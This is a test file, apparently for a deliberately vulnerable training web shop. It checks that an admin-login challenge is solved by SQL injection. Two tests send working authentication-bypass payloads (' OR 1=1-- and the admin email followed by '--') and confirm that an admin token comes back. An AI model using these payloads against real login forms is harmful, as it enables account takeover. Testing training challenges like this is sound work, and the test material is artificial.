import { beforeEach, describe, expect, it } from "vitest";
import { isSolved, login, resetInstance } from "../support/instance";
import { persona } from "../support/seed";

describe("loginAdminChallenge: SQL injection in the login", () => {
  beforeEach(resetInstance);

  it("logging in with a comment-out injection yields the admin's token and solves it", async () => {
    const response = await login("' OR 1=1--", "anything");
    expect(response.status).toBe(200);
    const { authentication } = await response.json();
    const payload = JSON.parse(atob(authentication.token.split(".")[1]));
    expect(payload.data.email).toBe(persona("admin").email);
    expect(payload.data.role).toBe("admin");
    expect(authentication.bid).toEqual(expect.any(Number));
    expect(await isSolved("loginAdminChallenge")).toBe(true);
  });

  it("also works by naming the admin and commenting out the password check", async () => {
    expect((await login(`${persona("admin").email}'--`, "x")).status).toBe(200);
    expect(await isSolved("loginAdminChallenge")).toBe(true);
  });

  it("ordinary logins do not solve it, not even the admin's own", async () => {
    const customer = persona("jim");
    const response = await login(customer.email, customer.password);
    expect(response.status).toBe(200);
    const { authentication } = await response.json();
    expect(JSON.parse(atob(authentication.token.split(".")[1])).data.email).toBe(customer.email);
    expect((await login(persona("admin").email, persona("admin").password)).status).toBe(200);
    expect((await login(persona("admin").email, "wrong")).status).toBe(401);
    expect(await isSolved("loginAdminChallenge")).toBe(false);
  });

  it("an erased user cannot log in with their password", async () => {
    const ghost = persona("ghost");
    expect((await login(ghost.email, ghost.password)).status).toBe(401);
  });
});
